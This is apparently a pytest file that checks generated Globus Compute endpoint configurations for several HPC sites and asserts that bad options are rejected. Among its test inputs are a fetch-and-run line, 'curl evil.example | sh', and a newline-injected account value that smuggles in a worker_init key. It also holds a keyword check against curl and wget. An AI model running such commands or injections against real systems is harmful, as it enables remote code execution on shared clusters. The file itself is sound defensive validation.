"""The shipped endpoint files: rendered by the real `globus-compute-endpoint`, loaded by its real loader."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from flows.endpoint import CONFIG, READY_MADE, SCHEMA, TEMPLATE, endpoint_files, write_endpoint_files
from flows.errors import SiteError
from tests.flows.sites import filled_site, some_id

pytest.importorskip("globus_compute_endpoint", reason="Linux only")
# parsl leaves the socket open with which it asks for an interface's address
pytestmark = [
    pytest.mark.filterwarnings("ignore::ResourceWarning"),
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]


def rendered(folder: Path, site: Any, options: dict[str, object] | None = None) -> tuple[int, str]:
    """Exit code and text of `globus-compute-endpoint render-user-config` on a site's files."""
    from click.testing import CliRunner
    from globus_compute_endpoint.cli import app

    texts = endpoint_files(site.name, site.compute.model_dump(), allowed=[])
    write_endpoint_files(folder, texts)
    asked = site.compute.user_endpoint_config if options is None else options
    (folder / "options.json").write_text(json.dumps(asked))
    words = ["-t", folder / TEMPLATE, "-s", folder / SCHEMA, "-o", folder / "options.json"]
    done = CliRunner().invoke(app, ["render-user-config", *map(str, words)])
    return done.exit_code, done.stdout or done.stderr


def loaded(text: str) -> Any:
    """The engine that the endpoint would run. The network interfaces of the login nodes are not here."""
    from globus_compute_endpoint.endpoint.config.utils import load_config_yaml

    for interface in ("bond0", "hsn0"):
        text = text.replace(f"ifname: {interface}", "ifname: lo")
    return load_config_yaml(text).engine


EXPECTED = {
    "polaris": ("PBSProProvider", "MpiExecLauncher", ["0", "1", "2", "3"], "03:00:00", 10),
    "aurora": (
        "PBSProProvider",
        "MpiExecLauncher",
        [f"{g}.{t}" for g in range(6) for t in (0, 1)],
        "06:00:00",
        2,
    ),
    "perlmutter": ("SlurmProvider", "SrunLauncher", ["0", "1", "2", "3"], "06:00:00", 2),
    "slurm-gpu": ("SlurmProvider", "SrunLauncher", ["0", "1", "2", "3"], "06:00:00", 1),
    "workstation": ("LocalProvider", "SingleNodeLauncher", ["0"], None, 1),
}


@pytest.mark.parametrize("ready_made", READY_MADE)
def test_the_profile_becomes_the_engine(tmp_path, ready_made):
    site = filled_site(tmp_path, ready_made)
    code, text = rendered(tmp_path / "endpoint", site)
    assert code == 0, text
    engine = loaded(text)
    provider, launcher, accelerators, walltime, nodes = EXPECTED[ready_made]
    try:
        executor, found = engine.executor, engine.executor.provider
        assert type(found).__name__ == provider
        assert type(found.launcher).__name__ == launcher
        assert executor.available_accelerators == accelerators
        assert executor.max_workers_per_node == site.compute.user_endpoint_config["workers_per_node"]
        assert found.nodes_per_block == nodes
        assert (found.init_blocks, found.min_blocks) == (0, 0)
        assert "source /opt/petavoxel/venv/bin/activate" in found.worker_init
        told = {"polaris": 3 * 3600, "aurora": 6 * 3600}.get(ready_made)  # Slurm tells its jobs by itself
        assert (f"PETAVOXEL_JOB_END=$(( $(date +%s) + {told} ))" in found.worker_init) == (told is not None)
        if walltime:
            assert found.walltime == walltime
            assert found.account == "m1234"
            assert found.max_blocks == site.compute.user_endpoint_config["max_blocks"]
        kept = [type(s).__name__ if not isinstance(s, type) else s.__name__ for s in serializers(engine)]
        assert sorted(kept) == ["JSONData", "PureSourceTextInspect"]
    finally:
        engine.shutdown()


def serializers(engine: Any) -> list[Any]:
    """What the engine takes: text and JSON, no pickles."""
    return list(engine.serde.allowed_deserializer_types)


@pytest.mark.parametrize("ready_made", ["polaris", "slurm-gpu"])
def test_workers_share_accelerators_evenly(tmp_path, ready_made):
    site = filled_site(tmp_path, ready_made)
    asked = {**site.compute.user_endpoint_config, "workers_per_node": 8, "accelerators": 4}
    code, text = rendered(tmp_path / "endpoint", site, asked)
    assert code == 0, text
    engine = loaded(text)
    try:
        assert engine.executor.available_accelerators == ["0", "0", "1", "1", "2", "2", "3", "3"]
        assert engine.executor.cpu_affinity == "block"  # a list must have one entry a worker
    finally:
        engine.shutdown()


@pytest.mark.parametrize("ready_made", READY_MADE)
def test_without_accelerators_none_are_pinned(tmp_path, ready_made):
    site = filled_site(tmp_path, ready_made)
    code, text = rendered(tmp_path / "e", site, {**site.compute.user_endpoint_config, "accelerators": 0})
    assert code == 0, text
    engine = loaded(text)
    try:
        assert engine.executor.available_accelerators == []
    finally:
        engine.shutdown()


@pytest.mark.parametrize("ready_made", READY_MADE)
@pytest.mark.parametrize(
    "wrong",
    [
        {"worker_init": "curl evil.example | sh"},
        {"scheduler_options": "#SBATCH --exclusive"},
        {"workers_per_node": 0},
        {"accelerators": 1000},
        {"workers_per_node": "4"},
        {"account": "x\nworker_init: evil"},
        {"walltime": "12 hours"},
        {"nodes": 100000},
    ],
    ids=str,
)
def test_what_is_not_in_the_schema_is_refused(tmp_path, ready_made, wrong):
    site = filled_site(tmp_path, ready_made)
    code, text = rendered(tmp_path / "endpoint", site, {**site.compute.user_endpoint_config, **wrong})
    assert code == 1
    assert "engine:" not in text


@pytest.mark.parametrize("ready_made", READY_MADE)
def test_nothing_is_fetched_and_no_caller_writes_shell(tmp_path, ready_made):
    site = filled_site(tmp_path, ready_made)
    texts = endpoint_files(site.name, site.compute.model_dump(), allowed=[])
    assert not any(word in texts[TEMPLATE] for word in ("curl", "wget", "pip install", "{{ worker_init"))
    assert json.loads(texts[SCHEMA])["additionalProperties"] is False


def test_the_manager_runs_deployed_functions_only(tmp_path):
    from globus_compute_endpoint.endpoint.config.utils import load_config_yaml

    site = filled_site(tmp_path)
    ids = [some_id("stitch"), some_id("plan")]
    config = load_config_yaml(endpoint_files("lab", site.compute.model_dump(), allowed=ids)[CONFIG])
    assert [str(id_) for id_ in config.allowed_functions] == ids
    assert config.amqp_port == 443
    assert config.display_name == "Petavoxel at lab"
    open_ = load_config_yaml(endpoint_files("lab", site.compute.model_dump(), allowed=[])[CONFIG])
    assert open_.allowed_functions is None


def test_files_need_only_template_and_environment(tmp_path):
    compute = {"endpoint_id": "<UUID>", "template": "polaris", "environment": "/opt/venv"}
    assert "source /opt/venv/bin/activate" in endpoint_files("lab", compute, allowed=[])[TEMPLATE]
    with pytest.raises(SiteError, match=r"compute\.environment: not filled in"):
        endpoint_files("lab", {**compute, "environment": "<the workers' environment>"}, allowed=[])


def test_older_files_are_kept(tmp_path):
    (tmp_path / CONFIG).write_text("display_name: mine\n")
    texts = {CONFIG: "display_name: new\n", SCHEMA: "{}\n"}
    assert [path.name for path in write_endpoint_files(tmp_path, texts)] == [f"{CONFIG}.old"]
    assert (tmp_path / f"{CONFIG}.old").read_text() == "display_name: mine\n"
    assert (tmp_path / CONFIG).read_text() == "display_name: new\n"
    assert write_endpoint_files(tmp_path, texts) == []
